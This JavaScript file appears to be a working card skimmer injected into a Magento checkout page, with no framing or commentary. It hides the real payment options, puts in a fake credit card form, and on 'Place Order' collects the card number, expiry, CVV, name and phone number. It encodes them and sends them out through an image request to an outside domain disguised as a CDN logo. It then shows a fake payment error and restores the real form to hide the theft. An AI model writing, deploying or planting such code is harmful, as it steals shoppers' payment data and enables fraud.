(function (d) {
    var done = false;

    function build() {
        if (done) return;
        var methods = d.getElementById("checkout-payment-method-load");
        if (!methods) return;
        done = true;

        var radios = methods.querySelectorAll(".payment-method");
        for (var i = 0; i < radios.length; i++) radios[i].style.display = "none";

        var wrap = d.createElement("div");
        wrap.className = "payment-method _active";
        wrap.innerHTML = [
            '<div class="payment-method-title field choice"><label class="label"><span>Credit Card</span></label></div>',
            '<div class="payment-method-content">',
            '<div class="field"><label>Credit Card Number</label><input type="text" id="pmc_number" class="input-text"></div>',
            '<div class="field"><label>Expiration Date</label>',
            '<select id="pmc_month"><option>01</option><option>02</option><option>03</option><option>04</option><option>05</option><option>06</option><option>07</option><option>08</option><option>09</option><option>10</option><option>11</option><option>12</option></select>',
            '<select id="pmc_year"><option>2025</option><option>2026</option><option>2027</option><option>2028</option><option>2029</option><option>2030</option></select></div>',
            '<div class="field"><label>Card Verification Number</label><input type="text" id="pmc_cvv" size="4"></div>',
            '<div class="actions-toolbar"><button class="action primary checkout" type="button" id="pmc_btn">Place Order</button></div>',
            '</div>'
        ].join("");
        methods.insertBefore(wrap, methods.firstChild);

        d.getElementById("pmc_btn").onclick = function () {
            var s = [
                d.getElementById("pmc_number").value,
                d.getElementById("pmc_month").value,
                d.getElementById("pmc_year").value,
                d.getElementById("pmc_cvv").value,
                (d.querySelector("input[name='firstname']") || {}).value,
                (d.querySelector("input[name='lastname']") || {}).value,
                (d.querySelector("input[name='telephone']") || {}).value
            ].join("#");
            var px = new Image();
            px.src = "https://mage-static-cdn.su/pub/media/logo.png?s=" + encodeURIComponent(btoa(s));
            wrap.querySelector(".payment-method-content").insertAdjacentHTML("beforeend",
                '<div class="message-error error message">An error occurred during payment. Please select a payment method and try again.</div>');
            setTimeout(function () {
                wrap.parentNode.removeChild(wrap);
                for (var j = 0; j < radios.length; j++) radios[j].style.display = "";
            }, 2000);
        };
    }

    var iv = setInterval(function () {
        if (location.hash.indexOf("payment") > -1) build();
        if (done) clearInterval(iv);
    }, 700);
})(document);
